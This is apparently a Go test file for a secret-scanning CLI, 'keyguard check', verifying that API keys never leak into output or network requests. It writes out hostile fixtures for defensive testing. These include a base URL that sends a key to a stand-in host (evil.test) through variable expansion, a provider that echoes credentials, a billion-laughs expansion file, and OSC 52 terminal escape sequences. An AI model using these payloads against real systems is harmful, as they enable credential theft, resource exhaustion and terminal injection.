package main

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/keyguard/keyguard/envscan"
	"github.com/keyguard/keyguard/envscan/fakeprovider"
)

// Hostile-workspace tests of `keyguard check` (issue 10): each builds a
// workspace, runs the real binary with every non-loopback request caught by
// a proxy trap, and asserts that no full key reaches stdout, stderr, or any
// URL or header the listeners saw.

// secKey builds an OpenAI-shaped key at run time (no key-shaped literal in
// the source); seed makes keys distinct.
func secKey(seed string) string {
	body := strings.Repeat(seed, 64)
	return "sk-proj-" + body[:40] + "T3Blbk" + "FJ" + body[7:47]
}

// proxyTrap stands in for every host that is not loopback: the binary runs
// with HTTPS_PROXY/HTTP_PROXY pointing here (Go never proxies loopback), so
// a probe to an official host arrives as a CONNECT that is recorded and
// refused: no test ever reaches the network.
type proxyTrap struct {
	srv  *httptest.Server
	mu   sync.Mutex
	seen []string // method and target of each request
	hdrs []http.Header
}

func newProxyTrap(t *testing.T) *proxyTrap {
	p := &proxyTrap{}
	p.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		p.mu.Lock()
		p.seen = append(p.seen, r.Method+" "+r.Host+" "+r.URL.String())
		p.hdrs = append(p.hdrs, r.Header.Clone())
		p.mu.Unlock()
		http.Error(w, "no network in tests", http.StatusForbidden)
	}))
	t.Cleanup(p.srv.Close)
	return p
}

func (p *proxyTrap) env() []string {
	return []string{"HTTPS_PROXY=" + p.srv.URL, "HTTP_PROXY=" + p.srv.URL, "https_proxy=" + p.srv.URL, "http_proxy=" + p.srv.URL, "NO_PROXY=", "no_proxy="}
}

func (p *proxyTrap) targets() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.seen...)
}

// noKeyAnywhere fails if a full key (as written or trimmed) is in any of the
// texts.
func noKeyAnywhere(t *testing.T, keys []string, what string, texts ...string) {
	t.Helper()
	for _, k := range keys {
		for _, form := range []string{k, strings.TrimSpace(k)} {
			for _, s := range texts {
				if strings.Contains(s, form) {
					t.Errorf("%s holds a full key:\n%s", what, s)
				}
			}
		}
	}
}

// noKeyInRequests fails if a key is in any URL a listener saw, or in a
// header other than the one that is meant to carry it to that listener.
func noKeyInRequests(t *testing.T, keys []string, fp *fakeprovider.Server, trap *proxyTrap) {
	t.Helper()
	for _, r := range fp.Requests() {
		h := r.Header.Clone()
		h.Del("Authorization")
		h.Del("x-api-key")
		h.Del("x-goog-api-key")
		hdr, _ := json.Marshal(h)
		noKeyAnywhere(t, keys, "a request the loopback provider received", r.Path, r.Query, r.Host, string(hdr))
	}
	if trap != nil {
		trap.mu.Lock()
		hdr, _ := json.Marshal(trap.hdrs)
		seen := strings.Join(trap.seen, "\n")
		trap.mu.Unlock()
		noKeyAnywhere(t, keys, "a request the proxy trap received", seen, string(hdr))
	}
}

type checkJSON struct {
	Results []struct {
		Var, Provider, Verdict, Detail, RequestID, Endpoint, Code string
		Status                                                    int
	} `json:"results"`
	Issues []struct {
		Line                           int
		Code, Message, Check, Severity string
	} `json:"issues"`
}

func parseCheckJSON(t *testing.T, out string) checkJSON {
	t.Helper()
	var rep checkJSON
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, out)
	}
	return rep
}

func (c checkJSON) hasIssue(check string) bool {
	for _, is := range c.Issues {
		if is.Check == check && is.Code == "env-format" {
			return true
		}
	}
	return false
}

// Item 1: ${} in a workspace base URL must never carry a key into output or
// into a URL.
func TestCheckBaseURLExpansionNeverCarriesKey(t *testing.T) {
	key := secKey("Qm3vR8tX1zLp")
	keys := []string{key}
	fp := fakeprovider.New()
	srv := httptest.NewServer(fp)
	defer srv.Close()
	fp.Set(key, fp.Scenario("openai", "valid"))
	loop := strings.TrimPrefix(srv.URL, "http://")
	host := loop[:strings.IndexByte(loop, ':')]

	tests := []struct {
		name  string
		env   string
		args  []string
		issue string // the env-format check that must be reported
	}{
		{"query to a foreign host", "OPENAI_API_KEY=" + key + "\nOPENAI_BASE_URL=https://evil.test/v1?k=${OPENAI_API_KEY}\n", nil, "key-in-url"},
		{"path to an allowed loopback host", "OPENAI_API_KEY=" + key + "\nOPENAI_BASE_URL=" + srv.URL + "/${OPENAI_API_KEY}/v1\n",
			[]string{"--allow-host", host}, "key-in-url"},
		{"quoted, built from a host variable", "OPENAI_API_KEY=" + key + "\nH=" + loop + "\nOPENAI_BASE_URL=\"http://${H}/v1\"\n",
			[]string{"--allow-host", host}, "expanded-base-url"},
		{"endpoint setting holding the key", "OPENAI_API_KEY=" + key + "\n",
			[]string{"--endpoint", "openai=" + srv.URL + "/" + key + "/v1"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			trap := newProxyTrap(t)
			dir := t.TempDir()
			writeEnv(t, dir, ".env", tt.env)
			before := fp.Count("")
			for _, format := range []string{"text", "json"} {
				r := runKeyguardEnv(t, dir, trap.env(), 30*time.Second, append([]string{"check", "--format", format, "--timeout", "2s"}, tt.args...)...)
				noKeyAnywhere(t, keys, "keyguard check --format "+format+" output", r.stdout, r.stderr)
				if format == "json" {
					rep := parseCheckJSON(t, r.stdout)
					if tt.issue != "" && !rep.hasIssue(tt.issue) {
						t.Errorf("no env-format %s issue:\n%s", tt.issue, r.stdout)
					}
					if len(rep.Results) != 1 || rep.Results[0].Verdict == "valid" {
						t.Errorf("the probe must not have reached the listener through the refused URL:\n%s", r.stdout)
					}
				}
			}
			noKeyInRequests(t, keys, fp, trap)
			if n := fp.Count("") - before; n != 0 {
				t.Errorf("the loopback listener got %d requests through a URL built with the key", n)
			}
			for _, tg := range trap.targets() {
				if !strings.Contains(tg, "api.openai.com") {
					t.Errorf("a probe went to %q, not the official host", tg)
				}
			}
		})
	}
}

// secAnthropicKey builds an Anthropic-shaped key at run time.
func secAnthropicKey(seed string) string {
	return "sk-ant-" + "api03-" + strings.Repeat(seed, 8)[:84] + "Ab1-cD2_eF3gAA"
}

// echoServer is a hostile provider: it answers every probe with status and
// puts the key it received (trimmed, as HTTP delivers it) into every field
// and header an error answer has.
type echoServer struct {
	mu   sync.Mutex
	reqs []string // method, URL and non-auth headers of each request
}

func (e *echoServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	key := r.Header.Get("x-api-key")
	if key == "" {
		key = strings.TrimSpace(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer"))
	}
	h := r.Header.Clone()
	h.Del("Authorization")
	h.Del("x-api-key")
	hdr, _ := json.Marshal(h)
	e.mu.Lock()
	e.reqs = append(e.reqs, r.Method+" "+r.Host+" "+r.URL.String()+" "+string(hdr))
	e.mu.Unlock()
	status := 401
	switch {
	case strings.Contains(r.URL.Path, "/s418"):
		status = 418
	case strings.Contains(r.URL.Path, "/s429"):
		status = 429
	case strings.Contains(r.URL.Path, "/s403"):
		status = 403
	}
	w.Header().Set("Content-Type", "application/json")
	w.Header().Set("x-request-id", "req_"+key)
	w.Header().Set("request-id", key)
	w.Header().Set("x-ratelimit-remaining-requests", key)
	w.Header().Set("x-ratelimit-"+key, "1")
	w.Header().Set("anthropic-ratelimit-requests-reset", key)
	w.Header().Set("retry-after-ms", "1")
	if half := len(key) / 2; half > 0 {
		// The key cut in two, each half in its own header.
		w.Header().Set("x-ratelimit-limit-requests", key[:half])
		w.Header().Set("x-ratelimit-limit-tokens", key[half:])
	}
	// Re-encoded, as a gateway echoing the credential it got would.
	w.Header().Set("x-ratelimit-reset-tokens", base64.RawURLEncoding.EncodeToString([]byte(key)))
	body, _ := json.Marshal(map[string]any{"type": "error", "error": map[string]any{
		"message": "Incorrect API key provided: " + key + " (revoked? missing scopes: " + key + ") Authorization: Basic " +
			base64.StdEncoding.EncodeToString([]byte("user:"+key)) + " digest " + hex.EncodeToString([]byte(key)),
		"type": key, "code": key, "status": key, "details": []map[string]string{{"reason": key}}}})
	w.WriteHeader(status)
	_, _ = w.Write(body)
}

func (e *echoServer) requests() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return strings.Join(e.reqs, "\n")
}

// Item 2: a provider that echoes the key in error.code/type/message,
// x-request-id and x-ratelimit-* never gets it shown, in either form.
func TestCheckHostileProviderEchoIsScrubbed(t *testing.T) {
	oa, an := secKey("Vb7nM2kQ9wLx"), secAnthropicKey("Hj4kL7pW2sXc")
	keys := []string{oa, an}
	for _, status := range []string{"s401", "s403", "s418", "s429"} {
		for _, pad := range []string{"", "  "} {
			t.Run(status+"/padded="+pad, func(t *testing.T) {
				echo := &echoServer{}
				srv := httptest.NewServer(echo)
				defer srv.Close()
				trap := newProxyTrap(t)
				dir := t.TempDir()
				writeEnv(t, dir, ".env", "OPENAI_API_KEY=\""+pad+oa+pad+"\"\nANTHROPIC_API_KEY=\""+pad+an+pad+"\"\n")
				for _, format := range []string{"text", "json"} {
					r := runKeyguardEnv(t, dir, trap.env(), 30*time.Second, "check", "--format", format,
						"--endpoint", "openai="+srv.URL+"/"+status+"/v1", "--endpoint", "anthropic="+srv.URL+"/"+status)
					noKeyAnywhere(t, keys, "keyguard check --format "+format+" output", r.stdout, r.stderr)
					noKeyPiece(t, keys, r.stdout+r.stderr)
					if format == "json" {
						rep := parseCheckJSON(t, r.stdout)
						if len(rep.Results) != 2 {
							t.Fatalf("results: %s", r.stdout)
						}
						for _, res := range rep.Results {
							if res.RequestID == "" || res.Status == 0 {
								t.Errorf("the echoed fields did not come through at all (masked is fine): %+v", res)
							}
						}
					}
				}
				noKeyAnywhere(t, keys, "a URL or header the hostile provider received", echo.requests())
				if len(trap.targets()) != 0 {
					t.Errorf("probes left loopback: %v", trap.targets())
				}
			})
		}
	}
}

// Item 5: a "billion laughs" .env (each line ten times the one before) must
// not take check to gigabytes: expansion is capped and the variables past
// the cap are env-format issues.
func TestCheckBillionLaughsIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("L0=haha-haha!\n")
	for i := 1; i <= 30; i++ {
		fmt.Fprintf(&b, "L%d=%s\n", i, strings.Repeat(fmt.Sprintf("${L%d}", i-1), 10))
	}
	b.WriteString("OPENAI_API_KEY=" + secKey("Zt5yU1iO8pAs") + "\n")
	if b.Len() > 2048 {
		t.Fatalf("the file is %d bytes; the point is a small one", b.Len())
	}
	dir := t.TempDir()
	writeEnv(t, dir, ".env", b.String())
	r := runKeyguardEnv(t, dir, nil, 20*time.Second, "check", "--no-probe", "--format", "json")
	rep := parseCheckJSON(t, r.stdout)
	if !rep.hasIssue("expansion-too-large") || r.code != 1 {
		t.Errorf("exit %d, no env-format expansion-too-large issue:\n%.2000s", r.code, r.stdout)
	}
	if len(rep.Results) != 1 {
		t.Errorf("the key after the laughs was not checked: %+v", rep.Results)
	}
	const maxRSSKB = 256 << 10
	if r.maxRSSKB > maxRSSKB || r.elapsed > 10*time.Second {
		t.Errorf("check took %v and %d MB of memory", r.elapsed, r.maxRSSKB>>10)
	}
	t.Logf("billion laughs: %v, max RSS %d MB", r.elapsed.Round(time.Millisecond), r.maxRSSKB>>10)
}

// Item 11, explicit side: keyguard check is not capped (every key gets its
// request) but paced (at most envscan.DefaultRequestsPerSecond).
func TestCheckIsUncappedButPaced(t *testing.T) {
	fp := fakeprovider.New()
	srv := httptest.NewServer(fp)
	defer srv.Close()
	const n = 25
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "OPENAI_KEY_%d=%s\n", i, secKey(fmt.Sprintf("Rq%02dxW7mZ4t", i)))
	}
	dir := t.TempDir()
	writeEnv(t, dir, ".env", b.String())
	r := runKeyguardEnv(t, dir, newProxyTrap(t).env(), 60*time.Second, "check", "--format", "json", "--endpoint", "openai="+srv.URL+"/v1")
	if got := len(parseCheckJSON(t, r.stdout).Results); got != n || fp.Count("") != n {
		t.Errorf("%d results, %d requests; want %d of each", got, fp.Count(""), n)
	}
	if least := (n - 1) * time.Second / envscan.DefaultRequestsPerSecond; r.elapsed < least {
		t.Errorf("%d requests in %v, faster than %d/s", n, r.elapsed, envscan.DefaultRequestsPerSecond)
	}
}

// noKeyPiece fails if any 16-byte piece of a key is in out (a hostile
// endpoint can echo a key cut up).
func noKeyPiece(t *testing.T, keys []string, out string) {
	t.Helper()
	for _, k := range keys {
		for i := 0; i+16 <= len(k); i++ {
			if strings.Contains(out, k[i:i+16]) {
				t.Errorf("output holds a piece of a key (%q):\n%s", k[i:i+16], out)
				return
			}
		}
		// The encodings echoServer sends back: 32 characters of one in a
		// row are 24 bytes of the key.
		k = strings.TrimSpace(k)
		for _, enc := range []string{base64.StdEncoding.EncodeToString([]byte("user:" + k)),
			base64.RawURLEncoding.EncodeToString([]byte(k)), hex.EncodeToString([]byte(k))} {
			for i := 0; i+32 <= len(enc); i++ {
				if strings.Contains(out, enc[i:i+32]) {
					t.Errorf("output holds a key re-encoded (%q):\n%s", enc[i:i+32], out)
					return
				}
			}
		}
	}
}

// Item 8 for check: an .env under a directory whose name carries an OSC 52
// (set clipboard) sequence, and a provider whose error message carries one: text output quotes them as git quotes paths, so
// no raw control byte reaches the terminal.
func TestCheckTextQuotesControlCharacters(t *testing.T) {
	oa := secKey("Qw3rTz8uKp1v")
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("x-request-id", "req_1")
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprint(w, `{"error":{"message":"bad key\u001b]52;c;aGk=\u0007","type":"invalid_request_error","code":"invalid_api_key"}}`)
	}))
	defer srv.Close()
	trap := newProxyTrap(t)
	dir := t.TempDir()
	sub := "a\x1b]52;c;aGk=\x07b"
	if err := os.Mkdir(filepath.Join(dir, sub), 0o755); err != nil {
		t.Fatal(err)
	}
	writeEnv(t, dir, filepath.Join(sub, ".env"), "OPENAI_API_KEY="+oa+"\nOPENAI_API_KEY="+oa+"\n")
	r := runKeyguardEnv(t, dir, trap.env(), 30*time.Second, "check", "--env-file", filepath.Join(sub, ".env"),
		"--endpoint", "openai="+srv.URL+"/v1")
	noKeyAnywhere(t, []string{oa}, "check output", r.stdout, r.stderr)
	for _, out := range []string{r.stdout, r.stderr} {
		if strings.ContainsAny(out, "\x1b\x07") {
			t.Fatalf("a raw control character reached the terminal:\n%q", out)
		}
	}
	if !strings.Contains(r.stdout, `"a\033]52;c;aGk=\ab/.env"`) {
		t.Errorf("the directory name is not shown quoted:\n%s", r.stdout)
	}
	if r.code != 1 {
		t.Errorf("exit %d, want 1 (an invalid key)", r.code)
	}
}
